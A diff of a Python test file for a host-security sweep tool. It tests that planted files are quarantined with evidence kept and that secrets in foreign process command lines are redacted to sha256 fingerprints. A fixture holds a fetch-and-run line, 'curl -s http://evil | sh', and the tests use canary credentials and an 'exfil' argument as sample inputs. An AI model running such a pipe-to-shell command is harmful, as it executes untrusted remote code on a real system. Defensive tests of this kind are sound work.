@@ -450,3 +450,30 @@ def test_a_move_keeps_the_evidence_in_roots_folder(account, tmp_path):
     held = quarantine / moved["moved_to"].rsplit("/", 1)[1]
     assert held.read_text() == "curl -s http://evil | sh\n"
     assert moved["sha256"] == item["sha256"] and moved["path"] == str(plant) and moved["owner"] == "nobody:nogroup"
+
+
+def fp(value: str) -> str:
+    return "sha256:" + hashlib.sha256(value.encode()).hexdigest()[:8]
+
+
+@pytest.mark.parametrize(
+    "args, shown",
+    [
+        (["sleep", "100"], ["sleep", "100"]),
+        (["env", "LITELLM_MASTER_KEY=sk-canary123"], ["env", f"LITELLM_MASTER_KEY={fp('sk-canary123')}"]),
+        (["app", "--password", "hunter2", "--port", "80"], ["app", "--password", fp("hunter2"), "--port", "80"]),
+        (
+            ["curl", "http://u:hunter2@h/x?token=abc&x=1"],
+            ["curl", f"http://u:{fp('hunter2')}@h/x?token={fp('abc')}&x=1"],
+        ),
+        (["curl", "-H", "X: Bearer abcdef"], ["curl", "-H", f"X: Bearer {fp('abcdef')}"]),
+        (["exfil", "sk-AbCdEf123456"], ["exfil", fp("sk-AbCdEf123456")]),
+        (
+            ["psql", "postgresql://litellm:pw0rd@127.0.0.1/db"],
+            ["psql", f"postgresql://litellm:{fp('pw0rd')}@127.0.0.1/db"],
+        ),
+    ],
+)
+def test_sweep_redact(args, shown):
+    """A foreign process's command line is evidence, and may carry what it stole: secrets as fingerprints."""
+    assert hs.sweep_redact(args) == shown
